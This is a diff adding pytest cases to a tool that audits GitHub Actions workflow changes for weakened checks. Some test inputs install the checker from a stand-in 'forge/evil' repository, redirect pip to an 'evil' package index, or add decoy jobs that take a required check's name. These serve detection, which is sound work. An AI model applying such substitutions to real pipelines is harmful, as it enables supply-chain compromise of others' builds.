@@ -154,6 +154,14 @@ SEARCHED = "the places where programs are sought, which its workflow sets"
         (CALL.replace("run: dodcheck", "run: PATH=bin:$PATH dodcheck"), [SEARCHED]),
         (CALL.replace("jobs:", "env: {PATH: bin}\njobs:"), [SEARCHED]),
         (CALL.replace("0.1.0", "0.2.0"), []),
+        (
+            CALL.replace(INSTALL, f"pip install git+https://forge/evil/dodcheck.git@{'0' * 40}"),
+            ["the dodcheck of `forge/evil/dodcheck`"],
+        ),
+        (
+            CALL.replace(INSTALL, f'pip install "dodcheck @ git+ssh://git@forge/evil/dodcheck@{"0" * 40}"'),
+            ["the dodcheck of `forge/evil/dodcheck`"],
+        ),
         (CALL.replace(INSTALL, f"{INSTALL}\n      - run: npm ci"), ["what `npm ci` does before it in its job"]),
         (CALL.replace(INSTALL, f"{INSTALL}\n      - run: ls"), []),
         (CALL + '      - run: echo x >> "$GITHUB_PATH"\n', []),
@@ -193,3 +201,48 @@ def test_a_shell_that_runs_something_else_than_the_script(shell: str) -> None:
 def test_a_shell_that_runs_the_script(shell: str) -> None:
     after = CALL.replace("run: dodcheck claims", f"run: dodcheck claims\n        shell: {shell}")
     assert weakening_findings(audited(CALL), audited(after)) == ()
+
+
+def test_a_newer_version_from_the_same_address() -> None:
+    before = CALL.replace(INSTALL, f"pip install git+https://forge/ours/dodcheck@{'0' * 40}")
+    assert weakening_findings(audited(before), audited(before.replace("0" * 40, "1" * 40))) == ()
+
+
+def test_an_older_version_finds_less() -> None:
+    found = weakening_findings(audited(CALL), audited(CALL.replace("0.1.0", "0.0.9")))
+    assert [f"{one.severity} {one.pattern}: {one.message}" for one in found] == [
+        "medium elsewhere: `dodcheck claims` is 0.0.9 from now on, and was 0.1.0: an older one finds less"
+    ]
+
+
+OTHER_JOB = CALL.replace("gate:", "dod:")
+DECOY = "  gate:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo fine\n"
+NAMED = "  quick:\n    name: gate\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo fine\n"
+
+
+@pytest.mark.parametrize(("decoy", "line"), [(DECOY, 9), (NAMED, 9)])
+def test_a_job_without_dodcheck_that_takes_the_name_of_its_check(decoy: str, line: int) -> None:
+    found = weakening_findings(audited(CALL), audited(OTHER_JOB + decoy))
+    said = "the check `gate` told what `dodcheck claims` found, and comes from a job that does not run it now"
+    way_out = "Give that job another name, or require `dod` where `gate` was required, and let this be accepted."
+    assert [(str(one.location), one.severity, one.pattern, one.message, one.remedy) for one in found] == [
+        (f".github/workflows/ci.yml:{line}", "high", "lost-run", said, way_out)
+    ]
+
+
+@pytest.mark.parametrize(
+    "after",
+    [OTHER_JOB, CALL + DECOY.replace("gate:", "quick:"), OTHER_JOB.replace("dod:", "dod:\n    name: gate")],
+)
+def test_a_job_may_have_another_name_as_long_as_no_other_takes_that_of_its_check(after: str) -> None:
+    assert weakening_findings(audited(CALL), audited(after)) == ()
+
+
+def test_a_file_of_requirements_that_leads_to_another_index() -> None:
+    listed = CALL.replace(INSTALL, "pip install -r ci.txt")
+    before = audited(listed, ci_txt="dodcheck==0.1.0 --hash=sha256:0\n")
+    after = audited(listed, ci_txt="--index-url https://evil/simple\ndodcheck==0.1.0 --hash=sha256:1\n")
+    assert [one.message for one in weakening_findings(before, after)] == [
+        "what `dodcheck claims` finds depends on `--index-url https://evil/simple` from now on"
+    ]
+    assert weakening_findings(before, audited(listed, ci_txt="dodcheck==0.2.0 --hash=sha256:1\n")) == ()
